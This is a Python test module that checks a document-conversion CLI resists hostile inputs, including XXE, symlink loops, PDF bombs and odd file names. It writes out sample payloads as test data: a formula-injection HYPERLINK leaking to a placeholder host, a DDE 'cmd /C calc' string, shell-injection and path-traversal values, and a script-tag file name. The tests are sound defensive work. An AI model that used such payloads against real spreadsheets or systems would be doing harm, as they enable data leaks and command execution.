"""Hostile and broken inputs through the real ``planharvest convert``: nothing crashes,
nothing is lost, nothing leaks.

Every bad input is generated at test time (``samples/hostile.py``) next to
good documents, and the real command runs over the folder (click's CliRunner,
or a subprocess where a process must be killed or may hang). For each one the
batch must finish with exit status 1, list that file as ``failed`` (or
``skipped``) in ``documents.csv`` with a reason a person understands, convert
the good files, and print no traceback unless ``--debug`` is given.

Slow cases (``@pytest.mark.slow``) are run by ``bench/robustness.py``. The property tests of
the header mapper, assembler and normalisers on random text are in
``tests/unit/test_hostile_properties.py``.
"""

from __future__ import annotations

import csv
import json
import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result

from planharvest import job, pipeline
from planharvest.cli import main
from planharvest.extract.grid import DocumentContent
from planharvest.extract.pdf import PdfError, read_pdf
from planharvest.model import Action, DocumentRecord
from planharvest.schema import columns
from planharvest.settings import LimitSettings, Settings
from samples import hostile
from tests.conftest import ROOT, SAMPLES

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Seconds after which a command is taken to hang: far above any machine's time for the
#: small inputs here (time is asserted only as a hang detector, never as speed).
HANG_SECONDS = 300


# -- running the command ----------------------------------------------------------------


def convert(inputs: list[Path], out: Path, *options: str) -> Result:
    """``planharvest convert`` in this process; a crash (any exception but the command's own
    exit) fails the test, because a user would see it as a traceback."""
    result = CliRunner().invoke(
        main, ["convert", *map(str, inputs), "--out", str(out), "--workers", "1", *options])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError("convert crashed") from result.exception
    return result


#: Runs the CLI with optional faults injected by environment variables:
#: KILL_BEFORE_REPLACING=name SIGKILLs the process as it is about to rename ``name`` into
#: place (the moment an atomic write commits); KILL_COMMITTING=name SIGKILLs it as the
#: run's commit is about to move ``name`` from its staging folder into --out (after the
#: manifest, between the renames); DIE_READING=text SIGKILLs the worker that
#: starts reading a file whose name contains ``text`` (a worker killed for memory);
#: HANG_READING=text makes that worker wait for ever instead (a document that never ends);
#: DISK_FULL_AT=name fails the rename of ``name`` with ENOSPC (the disk filled up).
_FAULTY_CLI = """
import os, signal, sys
from pathlib import Path
kill_before = os.environ.get("KILL_BEFORE_REPLACING")
if kill_before:
    real_replace = os.replace
    def replace(source, target, *args, **kwargs):
        if Path(target).name == kill_before:
            os.kill(os.getpid(), signal.SIGKILL)
        return real_replace(source, target, *args, **kwargs)
    os.replace = replace
kill_committing = os.environ.get("KILL_COMMITTING")
if kill_committing:
    real_replace = os.replace
    def replace(source, target, *args, **kwargs):
        staged = [Path(path).parent.name.startswith(".planharvest-staging")
                  for path in (source, target)]
        if Path(target).name == kill_committing and staged == [True, False]:
            os.kill(os.getpid(), signal.SIGKILL)
        return real_replace(source, target, *args, **kwargs)
    os.replace = replace
die_reading = os.environ.get("DIE_READING")
if die_reading:
    import planharvest.job as job
    real_read = job.read_content
    def read_content(path, *args, **kwargs):
        if die_reading in Path(path).name:
            os.kill(os.getpid(), signal.SIGKILL)
        return real_read(path, *args, **kwargs)
    job.read_content = read_content
full_at = os.environ.get("DISK_FULL_AT")
if full_at:
    import errno
    real_replace = os.replace
    def replace(source, target, *args, **kwargs):
        if Path(target).name == full_at:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(target))
        return real_replace(source, target, *args, **kwargs)
    os.replace = replace
hang_reading = os.environ.get("HANG_READING")
if hang_reading:
    import planharvest.job as job
    real_read = job.read_content
    def read_content(path, *args, **kwargs):
        if hang_reading in Path(path).name:
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            while True:
                signal.pause()
        return real_read(path, *args, **kwargs)
    job.read_content = read_content
from planharvest.cli import main
sys.exit(main())
"""


def _cli_command(args: list[str], faults: dict[str, str]) -> dict:
    """``subprocess`` arguments running the CLI with ``faults`` (see ``_FAULTY_CLI``)."""
    return {"args": [sys.executable, "-c", _FAULTY_CLI, *args], "cwd": ROOT,
            "env": {**os.environ, "PYTHONPATH": str(ROOT), **faults}}


def run_cli(args: list[str], timeout: float = HANG_SECONDS,
            **faults: str) -> subprocess.CompletedProcess:
    """The CLI in a child process (``faults``: see ``_FAULTY_CLI``); it is taken to hang
    after ``timeout`` seconds (a busy machine takes seconds to start Python alone)."""
    return subprocess.run(**_cli_command(args, faults), capture_output=True, text=True,
                          timeout=timeout)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def documents(out: Path) -> dict[str, dict[str, str]]:
    return {row["path"]: row for row in read_csv(out / "documents.csv")}


def good_inputs(folder: Path) -> list[Path]:
    """A Word and a PDF action plan of three actions each."""
    folder.mkdir(parents=True, exist_ok=True)
    return [hostile.action_plan_docx(folder / "good.docx"),
            hostile.action_plan_pdf(folder / "good.pdf")]


def assert_good_converted(out: Path) -> None:
    listed = documents(out)
    for name in ("good.docx", "good.pdf"):
        assert listed[name]["status"] == "ok", listed[name]
        assert listed[name]["actions_found"] == "3"


def files_under(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if not path.is_dir()}


# -- every bad input in one batch ----------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path, dict]:
    """One convert over every catalogued bad input plus two good plans."""
    folder = tmp_path_factory.mktemp("hostile")
    made = {case.name: case.make(folder) for case in hostile.CASES}
    good_inputs(folder)
    out = tmp_path_factory.mktemp("out")
    return convert([folder], out), out, made


def test_the_batch_finishes_with_status_1_and_no_traceback(hostile_run) -> None:
    result, out, _ = hostile_run
    assert result.exit_code == 1
    assert "Traceback" not in result.stderr
    assert_good_converted(out)
    for name in hostile.OUTPUT_FILES:
        assert (out / name).exists(), name


@pytest.mark.parametrize("case", hostile.CASES, ids=[case.name for case in hostile.CASES])
def test_each_bad_input_is_listed_with_its_reason(hostile_run, case: hostile.HostileCase) -> None:
    result, out, made = hostile_run
    listed = documents(out)
    for path in made[case.name]:
        row = listed[path.name]
        assert row["status"] == case.status, row
        if case.status == "failed":
            assert case.reason.lower() in row["error"].lower(), row["error"]
            assert not row["error"].startswith("internal error"), row["error"]
            assert f"failed: {path.name}: " in result.stderr


def test_zero_byte_and_random_files_fail_without_a_crash(hostile_run) -> None:
    _, out, made = hostile_run
    listed = documents(out)
    for path in made["zero-byte files"] + made["random bytes"]:
        assert listed[path.name]["status"] == "failed"
        assert listed[path.name]["error"]


def test_a_deep_nest_of_tables_is_read_and_the_outer_table_gives_its_action(hostile_run) -> None:
    _, out, made = hostile_run
    (path,) = made["tables nested 60 deep"]
    row = documents(out)[path.name]
    assert row["tables_found"] == "61" and row["actions_found"] == "1"


def test_pdfs_cut_short_at_many_offsets_all_fail_with_a_reason(tmp_path: Path) -> None:
    sample = SAMPLES / "003_tower_hamlets_draft.pdf"
    cut = hostile.truncated_copies(sample, tmp_path / "in", count=24) if sample.exists() else []
    if not cut:
        pytest.skip("samples/003_tower_hamlets_draft.pdf is missing")
    good_inputs(tmp_path / "in")
    result = convert([tmp_path / "in"], tmp_path / "out")
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    listed = documents(tmp_path / "out")
    assert_good_converted(tmp_path / "out")
    for path in cut:
        row = listed[path.name]
        # pdfminer may rebuild a damaged file; either it reads or it says why it cannot.
        assert row["status"] in ("ok", "failed"), row
        if row["status"] == "failed":
            assert row["error"] and not row["error"].startswith("internal error"), row["error"]


def test_a_pdf_with_an_empty_user_password_is_read_like_any_viewer_reads_it(
        tmp_path: Path) -> None:
    # Only an owner password (printing and copying restricted): viewers open it without
    # asking, so it is a readable plan, not a failure.
    hostile.action_plan_pdf(tmp_path / "in" / "restricted.pdf", passwords=hostile.PdfPasswords(""))
    hostile.action_plan_pdf(tmp_path / "plain" / "restricted.pdf")
    convert([tmp_path / "in"], tmp_path / "out")
    convert([tmp_path / "plain"], tmp_path / "out_plain")
    row = documents(tmp_path / "out")["restricted.pdf"]
    assert row["status"] == "ok" and row["actions_found"] == "3"

    def texts(out: Path) -> list[str]:
        return [row["action"] for row in json.loads((out / "actions.json").read_text())]

    assert texts(tmp_path / "out") == texts(tmp_path / "out_plain")


# -- external entities ------------------------------------------------------------------------


def test_external_entities_are_neither_read_nor_fetched(tmp_path: Path, listener) -> None:
    url, requests = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-FILE-CONTENT")
    folder = tmp_path / "in"
    folder.mkdir()
    hostile.external_entities_docx(folder / "xxe.docx", secret, url)
    result = convert([folder], tmp_path / "out")
    assert "Traceback" not in result.stderr
    assert requests == []
    for path in files_under(tmp_path / "out"):
        data = path.read_bytes()
        assert b"TOP-SECRET" not in data and b"LEAKED-OVER" not in data, path
    (row,) = json.loads((tmp_path / "out" / "actions.json").read_text())
    assert row["action"] == "Publish the plan file[] net[]"


# -- big but legitimate inputs ------------------------------------------------------------------


def test_long_documents_and_huge_cells_convert_whole(tmp_path: Path) -> None:
    """Big but legitimate inputs are read in full, none abandoned: each finishes inside the
    default per-document limit (a hang detector of minutes; speed is bench/speed.py's)."""
    folder = tmp_path / "in"
    folder.mkdir()
    hostile.many_pages_pdf(folder / "pages200.pdf", 200)
    hostile.dense_text_pdf(folder / "page_of_100k_characters.pdf", 100_000)
    hostile.huge_cells_docx(folder / "cells_of_100k_characters.docx", 100_000)
    result = convert([folder], tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    listed = documents(tmp_path / "out")
    assert listed["pages200.pdf"]["pages"] == "200"
    assert listed["pages200.pdf"]["actions_found"] == "400"
    assert listed["page_of_100k_characters.pdf"]["status"] == "ok"
    assert listed["cells_of_100k_characters.docx"]["actions_found"] == "1"


def test_references_past_999_are_not_joined_across_pages(tmp_path: Path) -> None:
    hostile.many_pages_pdf(tmp_path / "in" / "long.pdf", 10, first=991)
    convert([tmp_path / "in"], tmp_path / "out")
    rows = json.loads((tmp_path / "out" / "actions.json").read_text())
    refs = [row["action_ref"] for row in rows]
    assert refs == [f"A{n}" for n in range(991, 1011)]


# -- the file system: links, special files, odd names ------------------------------------------


def test_a_folder_with_symlink_loops_finishes(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    loops = hostile.symlink_loop(folder)
    good_inputs(folder)
    result = convert([folder], tmp_path / "out")
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    listed = documents(tmp_path / "out")
    assert_good_converted(tmp_path / "out")
    for path in loops:
        assert listed[path.name]["status"] in ("failed", "skipped")
        assert "link" in listed[path.name]["error"]


def test_pipes_and_links_to_devices_are_skipped_not_read_for_ever(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    specials = hostile.special_files(folder)
    good_inputs(folder)
    try:  # a reader blocked on a pipe waits for ever: any bound detects it, this one generously
        finished = run_cli(["convert", str(folder), "--out", str(tmp_path / "out"),
                            "--workers", "1"], timeout=HANG_SECONDS)
    except subprocess.TimeoutExpired:
        pytest.fail("convert hung on a named pipe or a device")
    assert finished.returncode in (0, 1) and "Traceback" not in finished.stderr
    listed = documents(tmp_path / "out")
    for path in specials:
        assert listed[path.name]["status"] in ("failed", "skipped")
        assert listed[path.name]["error"]
    assert "regular file" in listed["pipe.pdf"]["error"]


@pytest.fixture(scope="module")
def odd_names_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path, Path]:
    """Good plans under every odd name, converted; the whole temporary tree is watched."""
    root = tmp_path_factory.mktemp("odd")
    folder = root / "in"
    folder.mkdir()
    for number, name in enumerate(hostile.ODD_NAMES):  # distinct bytes: none is a copy
        hostile.action_plan_docx(folder / name, [("A1", "Hold a meeting", "Zorblax Trust",
                                                  "March 2009")], title=f"Plan {number}")
    before = files_under(root)
    result = convert([folder], root / "out")
    created = files_under(root) - before
    outside = {path for path in created if (root / "out") not in path.parents}
    assert outside == set(), outside
    return result, root / "out", folder


def test_odd_file_names_convert_and_keep_their_true_names(odd_names_run) -> None:
    result, out, _ = odd_names_run
    assert result.exit_code == 0, result.stderr
    records = read_csv(out / "documents.csv")
    true_paths = sorted(row["path"][1:] if row["path"][:1] == "'" else row["path"]
                        for row in records)
    assert true_paths == sorted(hostile.ODD_NAMES)
    assert all(row["status"] == "ok" for row in records)
    json_sources = {row["source_file"] for row in json.loads((out / "actions.json").read_text())}
    assert json_sources == set(hostile.ODD_NAMES)
    parquet_sources = set(pq.read_table(out / "actions.parquet").column("source_file").to_pylist())
    assert parquet_sources == set(hostile.ODD_NAMES)


def test_odd_file_names_cannot_inject_markup_into_the_report(odd_names_run) -> None:
    _, out, _ = odd_names_run
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report


def test_odd_file_names_cannot_rewrite_the_terminal(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("\x1b[2J\x1b[31mred.pdf", "new\nline.pdf"):
        (folder / name).write_bytes(b"")
    result = convert([folder], tmp_path / "out")
    assert "\x1b" not in result.stderr
    assert all(line.startswith(("failed: ", "skipped: ")) or "documents (" in line
               for line in result.stderr.splitlines()), result.stderr


def test_a_file_name_that_is_not_utf8_does_not_stop_the_run(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    good_inputs(folder)
    descriptor = os.open(os.fsencode(folder) + b"/" + hostile.NON_UTF8_NAME,
                         os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(descriptor, hostile.action_plan_docx(tmp_path / "plan.docx").read_bytes())
    os.close(descriptor)
    result = convert([folder], tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    assert len(documents(tmp_path / "out")) == 3


# -- formula injection -------------------------------------------------------------------------

_FORMULA_ROWS = [
    ("=1+1", '=HYPERLINK("http://example.invalid/?leak="&A1,"Click") for details', "@SUM(1+1)",
     "+2009"),
    ("-1", "-2+3 cmd|' /C calc'!A0", "=Zorblax Trust", "@March 2009"),
]
_FORMULA_FILE = '=HYPERLINK("mailto:a@example.invalid","open").docx'


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    hostile.action_plan_docx(folder / _FORMULA_FILE, _FORMULA_ROWS)
    (folder / "=2+2.pdf").write_bytes(b"")  # a failed document with a formula for a name
    out = tmp_path_factory.mktemp("out")
    convert([folder], out)
    return out


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("name", sorted(hostile.CSV_MODELS))
def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(
        formula_run: Path, name: str) -> None:
    cells = [cell for row in _csv_cells(formula_run / name)[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    # the test means something only if the file had formulas to neutralise
    assert any(cell.startswith("'") and cell[1:].startswith(FORMULA_START) for cell in cells)


def test_the_tables_command_neutralises_formulas_in_its_csv(tmp_path: Path) -> None:
    plan = hostile.action_plan_docx(tmp_path / "plan.docx", _FORMULA_ROWS)
    listed = CliRunner().invoke(main, ["tables", str(plan), "--format", "csv"])
    cells = [cell for row in csv.reader(listed.stdout.splitlines()) for cell in row]
    assert "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\") for details" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []


def test_parquet_and_json_keep_the_true_values(formula_run: Path) -> None:
    csv_rows = read_csv(formula_run / "actions.csv")
    json_rows = json.loads((formula_run / "actions.json").read_text())
    parquet_rows = pq.read_table(formula_run / "actions.parquet").to_pylist()
    assert json_rows[0]["source_file"] == parquet_rows[0]["source_file"] == _FORMULA_FILE
    assert csv_rows[0]["source_file"] == "'" + _FORMULA_FILE
    checked = 0
    for csv_row, json_row, parquet_row in zip(csv_rows, json_rows, parquet_rows, strict=True):
        for spec in columns(Action):
            if spec.kind not in ("string", "list") or json_row[spec.name] is None:
                continue
            true = json_row[spec.name]
            true = "; ".join(true) if spec.kind == "list" else true
            assert parquet_row[spec.name] == json_row[spec.name]
            expected = "'" + true if true.startswith(FORMULA_START) else true
            assert csv_row[spec.name] == expected, spec.name
            checked += true.startswith(FORMULA_START)
    assert checked >= 4


def test_review_import_treats_every_cell_as_data(formula_run: Path, tmp_path: Path) -> None:
    review = read_csv(formula_run / "review.csv")
    owners_line = next(row for row in review if row["field"] == "owners")
    hostile_values = ["=cmd|' /C calc'!A0", "../../escaped.txt", "$(touch pwned)",
                      "__import__('os').system('touch pwned')"]
    owners_line.update(decision="set", value="; ".join(hostile_values))
    stray = dict(owners_line, record_id="../../../etc/passwd", decision="accept", value="")
    filled = tmp_path / "filled.csv"
    with filled.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(owners_line))
        writer.writeheader()
        writer.writerows([owners_line, stray])
    decisions = tmp_path / "decisions.csv"
    before = files_under(tmp_path) | files_under(ROOT)
    imported = CliRunner().invoke(main, ["review", str(formula_run), "--import", str(filled),
                                         "--decisions", str(decisions), "--reviewer", "=evil"])
    assert imported.exit_code == 0, imported.output
    decision_cells = [cell for row in _csv_cells(decisions) for cell in row]
    assert [cell for cell in decision_cells if cell.startswith(FORMULA_START)] == []

    folder = tmp_path / "again"
    folder.mkdir()
    hostile.action_plan_docx(folder / _FORMULA_FILE, _FORMULA_ROWS)
    result = convert([folder], tmp_path / "out", "--decisions", str(decisions))
    assert "Traceback" not in result.stderr
    decided = [row for row in json.loads((tmp_path / "out" / "actions.json").read_text())
               if row["record_id"] == owners_line["record_id"]]
    assert decided[0]["owners"] == hostile_values
    created = (files_under(tmp_path) | files_under(ROOT)) - before
    assert {path.name for path in created} & {"escaped.txt", "pwned", "passwd"} == set()


# -- nothing is lost: atomic outputs under SIGKILL ----------------------------------------------


def _flagged_plan(folder: Path, name: str) -> Path:
    """A plan with a row a reviewer must look at: a bare name no registry knows (a name with
    a head noun, "Zorblax Trust", is read by its shape and only noted)."""
    folder.mkdir(parents=True, exist_ok=True)
    return hostile.action_plan_docx(folder / name, [
        ("A1", f"Action of {name}", "Zorblax", "March 2009"),
        ("A2", f"Second action of {name}", "Police", "sometime")])


def _runs_seen(out: Path) -> dict[str, frozenset[str]]:
    """For each output file, the documents it speaks of: all from one run, or a mixture."""
    seen = {
        "documents.csv": frozenset(row["path"] for row in read_csv(out / "documents.csv")),
        "actions.csv": frozenset(row["source_file"] for row in read_csv(out / "actions.csv")),
        "actions.json": frozenset(row["source_file"]
                                  for row in json.loads((out / "actions.json").read_text())),
        "actions.parquet": frozenset(pq.read_table(out / "actions.parquet")
                                     .column("source_file").to_pylist()),
        "review.csv": frozenset(row["source_file"] for row in read_csv(out / "review.csv")),
    }
    report = (out / "report.html").read_text(encoding="utf-8")
    seen["report.html"] = frozenset(name for name in ("alpha.docx", "beta.docx") if name in report)
    return seen


@pytest.mark.parametrize("killed_before", [
    "actions.csv",
    "documents.csv",
    "report.html",
    "datapackage.json",
])
def test_a_run_killed_while_writing_leaves_one_complete_run(tmp_path: Path,
                                                           killed_before: str) -> None:
    first = convert([_flagged_plan(tmp_path / "a", "alpha.docx").parent], tmp_path / "out")
    assert first.exit_code == 0
    killed = run_cli(["convert", str(_flagged_plan(tmp_path / "b", "beta.docx").parent),
                      "--out", str(tmp_path / "out"), "--workers", "1"],
                     KILL_BEFORE_REPLACING=killed_before)
    assert killed.returncode == -signal.SIGKILL
    assert hostile.output_problems(tmp_path / "out") == []
    runs = set(_runs_seen(tmp_path / "out").values())
    assert len(runs) == 1, runs


def test_a_run_in_fewer_formats_leaves_no_actions_file_of_an_older_run(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert convert([_flagged_plan(tmp_path / "a", "alpha.docx").parent], out).exit_code == 0
    assert convert([_flagged_plan(tmp_path / "b", "beta.docx").parent], out,
                   "--format", "csv").exit_code == 0
    assert not (out / "actions.parquet").exists() and not (out / "actions.json").exists()
    assert set(_runs_seen_csv(out).values()) == {frozenset({"beta.docx"})}


def _runs_seen_csv(out: Path) -> dict[str, frozenset[str]]:
    return {name: frozenset(row.get("source_file") or row["path"] for row in read_csv(out / name))
            for name in hostile.CSV_MODELS}


def test_a_review_import_killed_while_saving_keeps_the_previous_decisions(
        tmp_path: Path) -> None:
    out = tmp_path / "out"
    convert([_flagged_plan(tmp_path / "a", "alpha.docx").parent], out)
    review = read_csv(out / "review.csv")
    filled = tmp_path / "filled.csv"

    def fill(value: str) -> None:
        with filled.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(review[0]))
            writer.writeheader()
            writer.writerow(dict(review[0], decision="set_all", value=value))

    fill("Police")
    assert CliRunner().invoke(main, ["review", str(out), "--import", str(filled)]).exit_code == 0
    saved = (out / "decisions.csv").read_bytes()
    fill("Probation")
    killed = run_cli(["review", str(out), "--import", str(filled)],
                     KILL_BEFORE_REPLACING="decisions.csv")
    assert killed.returncode == -signal.SIGKILL
    assert (out / "decisions.csv").read_bytes() == saved


def test_a_worker_killed_on_one_document_fails_only_that_document(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    good_inputs(folder)
    for n in range(3):  # distinct bytes: none is a copy converted once
        hostile.action_plan_docx(folder / f"more{n}.docx", title=f"Plan {n}")
    hostile.action_plan_docx(folder / "kills_its_worker.docx", title="The killer")
    finished = run_cli(["convert", str(folder), "--out", str(tmp_path / "out"), "--workers", "2"],
                       DIE_READING="kills_its_worker")
    assert finished.returncode == 1 and "Traceback" not in finished.stderr
    listed = documents(tmp_path / "out")
    assert listed.pop("kills_its_worker.docx")["status"] == "failed"
    assert {row["status"] for row in listed.values()} == {"ok"}


# -- limits ---------------------------------------------------------------------------------------


def children_of(pid: int) -> set[int]:
    """The processes whose parent is ``pid`` (from /proc)."""
    found = set()
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            lines = status.read_text().splitlines()
        except OSError:
            continue
        if f"PPid:\t{pid}" in lines:
            found.add(int(status.parent.name))
    return found


def wait_until(condition: Callable[[], bool], hang_after: float) -> bool:
    """Poll ``condition`` until it holds; False after ``hang_after`` seconds (a hang
    detector, far above any plausible time)."""
    given_up = time.monotonic() + hang_after
    while not condition():
        if time.monotonic() > given_up:
            return False
        time.sleep(0.1)
    return True


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs /proc")
def test_workers_die_with_a_convert_killed_by_sigkill(tmp_path: Path) -> None:
    """SIGKILL of ``convert`` cannot stop its pool; its workers must not read on for good."""
    folder = tmp_path / "in"
    for name in ("hang_a.docx", "hang_b.docx"):
        hostile.action_plan_docx(folder / name)
    process = subprocess.Popen(**_cli_command(
        ["convert", str(folder), "--out", str(tmp_path / "out"), "--workers", "2"],
        {"HANG_READING": "hang"}), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert wait_until(lambda: len(children_of(process.pid)) >= 2,
                          hang_after=HANG_SECONDS)
        workers = children_of(process.pid)
    finally:
        process.kill()
        process.wait()
    assert wait_until(lambda: not any(Path(f"/proc/{pid}").exists() for pid in workers),
                      hang_after=HANG_SECONDS), "workers outlived their parent"


def _convert_with(settings: Settings, folder: Path, out: Path) -> dict[str, DocumentRecord]:
    options = pipeline.RunOptions(out_dir=out, workers=1, settings=settings, use_cache=False)
    summary = pipeline.convert([folder], options)
    return {record.path: record for record in summary.documents}


def test_the_zip_limits_are_settable(tmp_path: Path) -> None:
    hostile.many_entries_docx(tmp_path / "in" / "entries.docx", 60)
    limits = LimitSettings(max_zip_entries=50, max_uncompressed_bytes=10_000)
    records = _convert_with(Settings(limits=limits),
                            tmp_path / "in", tmp_path / "out")
    assert records["entries.docx"].status == "failed"
    assert "max_zip_entries" in records["entries.docx"].error
    records = _convert_with(Settings(limits=LimitSettings(max_uncompressed_bytes=1_000)),
                            tmp_path / "in",
                            tmp_path / "out2")
    assert "max_uncompressed_bytes" in records["entries.docx"].error


def test_a_pdf_over_max_pages_fails_with_that_reason(tmp_path: Path) -> None:
    hostile.many_pages_pdf(tmp_path / "in" / "long.pdf", 8)
    records = _convert_with(Settings(limits=LimitSettings(max_pages=5)), tmp_path / "in",
                            tmp_path / "out")
    assert records["long.pdf"].status == "failed"
    assert "max_pages" in records["long.pdf"].error


#: A time limit for documents that end, when another never does: a document of three rows
#: takes milliseconds of it (the rest is room for a busy machine); the one that never ends
#: waits it out asleep, costing no CPU.
LIMIT_BESIDE_A_HANG = 20.0


def test_a_document_over_the_time_limit_fails_with_that_reason(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A document whose reading never ends, not one that is merely slow: whatever the
    # machine's speed, it passes the limit and the quick one does not.
    hostile.action_plan_docx(tmp_path / "in" / "never_ends.docx", title="Never ends")
    hostile.action_plan_docx(tmp_path / "in" / "quick.docx")
    real_read = job.read_content

    def read_content(path: Path, *args: object, **kwargs: object) -> DocumentContent:
        given_up = time.monotonic() + HANG_SECONDS  # were the limit not held: a failure
        while path.name == "never_ends.docx" and time.monotonic() < given_up:
            time.sleep(1)  # SIGALRM's handler raises out of the sleep
        return real_read(path, *args, **kwargs)

    monkeypatch.setattr(job, "read_content", read_content)
    limits = LimitSettings(max_seconds_per_document=LIMIT_BESIDE_A_HANG)
    records = _convert_with(Settings(limits=limits), tmp_path / "in", tmp_path / "out")
    assert records["never_ends.docx"].status == "failed"
    assert "max_seconds_per_document" in records["never_ends.docx"].error
    assert records["quick.docx"].status == "ok"
    assert records["quick.docx"].actions_found == 3


def test_the_limits_are_settable_on_the_command_line(tmp_path: Path) -> None:
    hostile.many_pages_pdf(tmp_path / "in" / "long.pdf", 8)
    result = convert([tmp_path / "in"], tmp_path / "out", "--max-pages", "5",
                     "--max-seconds", "60", "--max-megabytes", "100")
    assert result.exit_code == 1, result.output
    assert "max_pages" in documents(tmp_path / "out")["long.pdf"]["error"]


def test_the_time_limit_holds_where_documents_run_on_threads(tmp_path: Path) -> None:
    # A thread cannot take SIGALRM (a Dask thread worker, a caller's own thread pool): there
    # the limit is checked before each PDF page and between stages. No race against the
    # machine's speed: a limit of a nanosecond has passed by the first check whatever the
    # machine, and the default limit is never reached by these two small documents (the
    # PDF's two pages: a check before each).
    hostile.many_pages_pdf(tmp_path / "in" / "plan.pdf", 2)
    hostile.action_plan_docx(tmp_path / "in" / "quick.docx")
    for limit, expected in ((1e-9, "failed"), (Settings().limits.max_seconds_per_document, "ok")):
        options = pipeline.RunOptions(
            out_dir=tmp_path / "out", workers=1, use_cache=False,
            settings=Settings(limits=LimitSettings(max_seconds_per_document=limit)))
        with ThreadPoolExecutor(1) as executor:
            summary = pipeline.convert([tmp_path / "in"], options, executor=executor)
        records = {record.path: record for record in summary.documents}
        assert {record.status for record in records.values()} == {expected}
        if expected == "failed":
            assert all("max_seconds_per_document" in record.error for record in records.values())
    assert records["quick.docx"].actions_found == 3


def test_pdf_bombs_fail_unread_naming_the_limit_they_pass(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    hostile.dense_text_pdf(folder / "deflated_text.pdf", 400_000, compress=True)
    hostile.form_bomb_pdf(folder / "nested_forms.pdf")  # 10^8 lines from 2 kB
    hostile.deflate_bomb_pdf(folder / "blanks.pdf", 80 * 2**20)
    hostile.dense_text_pdf(folder / "dense_but_fine.pdf", 20_000, compress=True)
    began = time.perf_counter()
    records = _convert_with(Settings(), folder, tmp_path / "out")
    assert time.perf_counter() - began < HANG_SECONDS  # a hang detector, not a speed
    assert "max_page_characters" in records["deflated_text.pdf"].error
    assert "max_page_characters" in records["nested_forms.pdf"].error
    assert "max_page_content_bytes" in records["blanks.pdf"].error
    assert records["dense_but_fine.pdf"].status == "ok", records["dense_but_fine.pdf"].error


def test_characters_drawn_by_forms_are_counted_once_per_drawing(tmp_path: Path) -> None:
    # 10 drawings of a form that draws 10 times a form holding a line of 19 characters.
    path = hostile.form_bomb_pdf(tmp_path / "forms.pdf", levels=2, fan_out=10)
    assert read_pdf(path, limits=LimitSettings(max_page_characters=1900)).pages == 1
    with pytest.raises(PdfError, match="about 1,900 characters"):
        read_pdf(path, limits=LimitSettings(max_page_characters=1899))


# -- --debug ------------------------------------------------------------------------------


def test_an_internal_error_is_one_line_and_debug_shows_the_traceback(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken_reader(*_args: object, **_kwargs: object) -> DocumentContent:
        raise RuntimeError("a reader bug")

    monkeypatch.setattr(job, "read_content", broken_reader)
    hostile.action_plan_docx(tmp_path / "in" / "plan.docx")
    plain = convert([tmp_path / "in"], tmp_path / "out", "--no-cache")
    assert plain.exit_code == 1
    assert "RuntimeError: a reader bug" in plain.stderr and "Traceback" not in plain.stderr
    debug = convert([tmp_path / "in"], tmp_path / "out_debug", "--no-cache", "--debug")
    assert "Traceback (most recent call last)" in debug.stderr


def peak_megabytes_of_convert(folder: Path, out: Path, timeout: float = 300) -> float:
    """Convert ``folder`` in a child process (one worker: all work in that process) and
    return the child's peak resident memory."""
    code = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    measured = subprocess.run(
        [sys.executable, "-c", code, sys.executable, "-m", "planharvest", "convert", str(folder),
         "--out", str(out), "--workers", "1", "--no-cache"],
        capture_output=True, text=True, timeout=timeout, cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)})
    return int(measured.stdout.split()[-1]) / 1024


def test_a_huge_page_does_not_blow_up_memory_when_the_report_pictures_it(tmp_path: Path) -> None:
    hostile.wide_page_pdf(tmp_path / "in" / "wide.pdf", width=50_000)
    peak = peak_megabytes_of_convert(tmp_path / "in", tmp_path / "out")
